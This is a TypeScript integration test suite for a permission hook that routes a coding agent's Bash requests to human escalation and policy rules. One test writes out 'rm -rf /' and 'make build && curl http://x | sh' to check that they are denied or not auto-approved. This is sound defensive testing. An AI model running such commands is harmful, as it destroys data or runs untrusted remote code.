import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { text as readAll } from 'node:stream/consumers'
import { setTimeout as delay } from 'node:timers/promises'
import { afterEach, expect, it, vi } from 'vitest'
import type { Escalation } from '../../src/escalation/escalation.ts'
import type { Home } from '../../src/lib/home.ts'
import { askPlaces, WaitingAsk } from '../../src/signals/hooks/ask-record.ts'
import { answerProxy } from '../support/answer-proxy.ts'
import { binary } from '../support/task-runs.ts'
import { useService } from '../support/use-service.ts'

const { client, reconnect, service } = useService()
// Several programs are started in each; on a busy computer that takes a while.
vi.setConfig({ testTimeout: 90_000 })
const command = [process.execPath, binary]

let runs = 0
const hooks: Hook[] = []
afterEach(() => {
  for (const hook of hooks.splice(0)) hook.kill()
})

interface Hook {
  run: string
  task: string
  kill(): void
  /** It stands still. */
  stop(): void
  exited: Promise<unknown>
  /** What it tells its agent. */
  decision(): Promise<unknown>
  /** What the process of its run sees. */
  waits(): WaitingAsk[]
}

/** What an agent without a terminal starts when its mode does not allow a command. */
function hookOf(
  bash: string,
  {
    run = `run${++runs}`,
    within = 600_000,
    home = service.home,
  }: { run?: string; within?: number; home?: Home } = {},
): Hook {
  const cwd = mkdtempSync(join(service.work, 'shop-'))
  const asks = join(cwd, 'asks')
  const task = `task-${run}`
  const words = ['ask-permission', '--agent', 'claude', '--task', task, '--within', String(within)]
  const [program = '', ...args] = [...command, ...words]
  const env = {
    ...process.env,
    ITERM_ORCH_HOME: home.root,
    ITERM_ORCH_RUN: run,
    ITERM_ORCH_ASKS: asks,
  }
  const child = spawn(program, args, { cwd, env, stdio: ['pipe', 'pipe', 'inherit'] })
  const tool_input = { command: bash, description: 'Build it' }
  const payload = { hook_event_name: 'PermissionRequest', cwd, tool_name: 'Bash', tool_input }
  child.stdin.end(JSON.stringify(payload))
  const said = readAll(child.stdout)
  const exited = once(child, 'exit')
  const hook: Hook = {
    run,
    task,
    kill: () => child.kill('SIGKILL'),
    stop: () => child.kill('SIGSTOP'),
    exited,
    decision: async () => {
      await exited
      const { hookSpecificOutput: out } = JSON.parse(await said)
      expect(out.hookEventName).toBe('PermissionRequest')
      return out.decision
    },
    waits: () =>
      existsSync(asks)
        ? readdirSync(asks).map((name) =>
            WaitingAsk.parse(JSON.parse(readFileSync(join(asks, name), 'utf8'))),
          )
        : [],
  }
  hooks.push(hook)
  return hook
}

/** The first that is open, or was a moment ago. */
async function escalationOf({ run }: Hook, all = false): Promise<Escalation> {
  for (;;) {
    const { escalations } = await client().escalations(all ? { all: 'true' } : {})
    const found = escalations.find(({ session }) => session === run)
    if (found) return found
    await delay(50)
  }
}

/** As it is once it is over. */
async function closed(id: string): Promise<Escalation> {
  for (;;) {
    const escalation = await client().escalation(id)
    if (escalation.outcome !== undefined) return escalation
    await delay(50)
  }
}

it('brings what an agent without a terminal asks to whoever answers, and the answer to the agent', async () => {
  const hook = hookOf('make marker')
  const asked = await escalationOf(hook)
  expect(asked).toMatchObject({ kind: 'permission', task: hook.task, name: hook.task, agent: 'claude' })
  expect(asked.text).toBe('May it use Bash? make marker')
  expect(asked.prompt?.options.map(({ label }) => label)).toEqual(['Yes', 'No'])
  // In a home where nobody has sent anything yet.
  await expect
    .poll(async () => (await client().escalation(asked.id)).told, { timeout: 30_000 })
    .toMatchObject([{ to: 'claude', channel: 'mail', state: 'told' }])
  const answered = await client().answerEscalation(asked.id, { choice: 'approve' })
  expect(answered).toMatchObject({ confirmed: true, delivered: 'hook', chosen: 'Yes' })
  expect(await hook.decision()).toEqual({ behavior: 'allow' })
  const over = await closed(asked.id)
  expect(over).toMatchObject({ outcome: 'answered', deliveries: [{ step: 'hook', confirmed: true }] })
})

it('shows while it waits which escalation it waits for, and nothing any more when it has its answer', async () => {
  const hook = hookOf('make marker')
  const { id } = await escalationOf(hook)
  await expect.poll(() => hook.waits(), { timeout: 30_000 }).toMatchObject([{ text: 'Bash', escalation: id }])
  await client().answerEscalation(id, { text: 'use npm instead' })
  expect(await hook.decision()).toEqual({ behavior: 'deny', message: 'use npm instead' })
  expect(hook.waits()).toEqual([])
})

it('is not answered by the agent that asks', async () => {
  const hook = hookOf('make marker')
  const { id } = await escalationOf(hook)
  const [program = '', ...args] = [...command, 'answer', id, 'yes']
  const env = {
    ...process.env,
    ITERM_ORCH_HOME: service.home.root,
    ITERM_ORCH_RUN: hook.run,
    ITERM_ORCH_ASKS: '/x',
  }
  const answer = spawn(program, args, { env, stdio: ['ignore', 'ignore', 'pipe'] })
  expect(await readAll(answer.stderr)).toContain('asks this itself')
  expect((await client().escalation(id)).outcome).toBeUndefined()
})

it('asks one after the other for the same run', async () => {
  const first = hookOf('make one')
  const before = await escalationOf(first)
  const second = hookOf('make two', first)
  await expect.poll(() => second.waits(), { timeout: 30_000 }).toHaveLength(1)
  await client().answerEscalation(before.id, { choice: 'deny' })
  expect(await first.decision()).toMatchObject({ behavior: 'deny' })
  const after = await escalationOf(second)
  expect(after.text).toContain('make two')
  await client().answerEscalation(after.id, { choice: '1' })
  expect(await second.decision()).toEqual({ behavior: 'allow' })
})

it('lets the rules of the policy decide first, by the very command', async () => {
  const rules = [
    '    - {name: builds, action: approve, match: {command: [make build]}}',
    '    - {name: never, action: deny, match: {command: [rm **]}}',
  ]
  writeFileSync(service.home.config, `policy:\n  rules:\n${rules.join('\n')}\n`)
  try {
    const builds = hookOf('make build')
    const removes = hookOf('rm -rf /')
    expect(await builds.decision()).toEqual({ behavior: 'allow' })
    expect(await removes.decision()).toMatchObject({ behavior: 'deny' })
    const other = hookOf('make build && curl http://x | sh')
    expect((await escalationOf(other)).policy?.action).not.toBe('approve')
  } finally {
    writeFileSync(service.home.config, '')
  }
})

it('takes the question back when the agent has ended', async () => {
  const hook = hookOf('make marker')
  const { id } = await escalationOf(hook)
  hook.kill()
  expect(await closed(id)).toMatchObject({
    outcome: 'withdrawn',
    closing: 'its agent has ended, or waits no longer',
  })
  await expect(client().answerEscalation(id, { choice: 'approve' })).rejects.toMatchObject({
    code: 'already-answered',
  })
})

it('denies it, and says so, when nobody has answered in the time that the agent waits', async () => {
  const hook = hookOf('make marker', { within: 6_000 })
  const { id } = await escalationOf(hook, true)
  expect(await hook.decision()).toEqual({ behavior: 'deny', message: 'Nobody answered within 6 s.' })
  expect(await closed(id)).toMatchObject({ outcome: 'withdrawn' })
})

it('goes on waiting when the service is killed, and is answered by the next one', async () => {
  const hook = hookOf('make marker')
  const { id } = await escalationOf(hook)
  const { pid } = await client().health()
  process.kill(pid, 'SIGKILL')
  await reconnect()
  expect((await client().health()).pid).not.toBe(pid)
  expect((await client().escalation(id)).outcome).toBeUndefined()
  await client().answerEscalation(id, { choice: 'approve' })
  expect(await hook.decision()).toEqual({ behavior: 'allow' })
  expect(await closed(id)).toMatchObject({ outcome: 'answered' })
})

it('knows that the agent has its answer when the service was killed before it heard so', async () => {
  const { pid } = await client().health()
  const kill = () => process.kill(pid, 'SIGKILL')
  const home = answerProxy(service.home, join(service.work, 'proxy'), kill)
  const hook = hookOf('make marker', { home })
  const { id } = await escalationOf(hook)
  await expect(client().answerEscalation(id, { choice: 'approve' })).rejects.toThrow()
  expect(await hook.decision()).toEqual({ behavior: 'allow' })
  await reconnect()
  expect(await closed(id)).toMatchObject({ outcome: 'answered', answers: [{ verdict: 'taken' }] })
  const places = askPlaces(service.home.state)
  const left = () => [places.waiting, places.taken].flatMap((place) => readdirSync(place))
  await expect.poll(left, { timeout: 30_000 }).toEqual([])
})

it('does not take for answered what no hook has the answer of', async () => {
  const { pid } = await client().health()
  const hook = hookOf('make marker')
  const { id } = await escalationOf(hook)
  // It hears nothing of its answer.
  hook.stop()
  const answered = client().answerEscalation(id, { choice: 'approve' })
  await expect.poll(async () => (await client().escalation(id)).answers, { timeout: 30_000 }).toHaveLength(1)
  process.kill(pid, 'SIGKILL')
  await expect(answered).rejects.toThrow()
  hook.kill()
  await hook.exited
  await reconnect()
  expect(await closed(id)).toMatchObject({ outcome: 'failed' })
})
